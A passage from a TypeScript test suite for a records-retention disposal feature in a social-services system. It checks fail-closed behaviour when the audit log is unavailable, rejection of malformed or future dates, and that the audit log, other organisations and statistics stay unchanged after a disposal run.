    const r = await exec<{ retentionDue: { clientId: string; recordType: string }[] }>('admin', DUE, { asOf });
    expect(r.data!.retentionDue.filter((i) => i.clientId === pendingRequest)).toEqual([]);
  });

  test('fail closed: retentionDue (names clients) and a dry run answer nothing when the log cannot be written', async () => {
    const ok = await exec<{ retentionDue: unknown[] }>('admin', DUE, { asOf });
    expect(ok.data!.retentionDue.length).toBeGreaterThan(0);
    const runsBefore = (await db().select().from(disposalRuns)).length;
    sink.failing = true;
    const due = await exec<{ retentionDue: unknown }>('admin', DUE, { asOf });
    const dry = await exec<{ runDisposal: unknown }>('admin', RUN, { asOf, dryRun: true });
    sink.failing = false;
    expect(due.data?.retentionDue ?? null).toBeNull();
    expect(dry.data?.runDisposal ?? null).toBeNull();
    expect(await db().select().from(disposalRuns)).toHaveLength(runsBefore);
  });

  test('asOf later than today, or a malformed date: refused, nothing recorded', async () => {
    const before = (await db().select().from(disposalRuns)).length;
    for (const d of [addDays(helsinkiDay(), 1), '2999-03-01', '2026-02-30', '03/01/2026', '']) {
      const r = await exec('admin', RUN, { asOf: d, dryRun: false });
      expect(r.errors).toBeDefined();
    }
    expect(await db().select().from(disposalRuns)).toHaveLength(before);
  });

  test('fail closed: the log cannot be written → nothing removed, no run completed', async () => {
    const runsBefore = (await db().select().from(disposalRuns)).length;
    const clientsBefore = (await db().select({ id: clients.id }).from(clients)).length;
    sink.failing = true;
    const r = await exec('admin', RUN, { asOf, dryRun: false });
    sink.failing = false;
    expect(r.data?.runDisposal ?? null).toBeNull();
    expect((await db().select({ id: clients.id }).from(clients)).length).toBe(clientsBefore);
    expect((await db().select().from(disposalRuns)).filter((x) => x.status === 'COMPLETED' || x.status === 'PARTIAL').length).toBeLessThanOrEqual(runsBefore);
  });

  test('the real run: other organisations untouched, the access log untouched, statistics unchanged (no small cell opened)', async () => {
    const regionBClients = await db().select({ id: clients.id }).from(clients).where(eq(clients.organisationId, REGION_B));
    const { n: logCount, h: logHash } = rowsOf(await db().execute(sql`SELECT count(*)::int AS n, md5(string_agg(hash, '' ORDER BY seq)) AS h FROM audit.entries`))[0] as { n: number; h: string };
    const maxSeq = Number((rowsOf(await db().execute(sql`SELECT max(seq)::bigint AS s FROM audit.entries`))[0] as { s: string }).s);
    const reports = ['CLIENTS_BY_SERVICE_TASK_AGE_MUNICIPALITY', 'RELATIONSHIPS_STARTED_ENDED', 'PLACEMENTS_AND_CARE_DAYS', 'DECISIONS_BY_TYPE', 'DATA_SUBJECT_REQUESTS'];
    const before: Record<string, string[][]> = {};
    for (const rep of reports) before[rep] = await stats(rep, '2004-05-01', '2004-05-31');

    const r = await exec<{ runDisposal: { status: string; items: { clientId: string; serviceTask: string | null; recordType: string }[] } }>('admin', RUN, { asOf, dryRun: false });
    expect(r.errors).toBeUndefined();
    // The partial client's child-welfare records went (else the probe below proves nothing).
    expect(r.data!.runDisposal.items.some((i) => i.clientId === partial && i.serviceTask === 'CHILD_WELFARE')).toBe(true);
    expect(await db().select({ id: clients.id }).from(clients).where(inArray(clients.id, others))).toHaveLength(3);

    expect(await db().select({ id: clients.id }).from(clients).where(eq(clients.organisationId, REGION_B))).toHaveLength(regionBClients.length);
    const { n: after, h: afterHash } = rowsOf(await db().execute(sql`SELECT count(*)::int AS n, md5(string_agg(hash, '' ORDER BY seq)) AS h FROM audit.entries WHERE seq <= ${maxSeq}`))[0] as { n: number; h: string };
    expect([after, afterHash]).toEqual([logCount, logHash]);

    for (const rep of reports) expect([rep, await stats(rep, '2004-05-01', '2004-05-31')]).toEqual([rep, before[rep]]);
  });

  test('a client of the region whose relationship is open is never touched', async () => {
    const c = await db().select().from(clientRelationships).where(and(eq(clientRelationships.clientId, partial), eq(clientRelationships.unitId, FAMILY)));
    expect(c).toHaveLength(1);
    expect(await db().select().from(placements).where(eq(placements.clientId, others[0]!))).toHaveLength(1);
  });
});
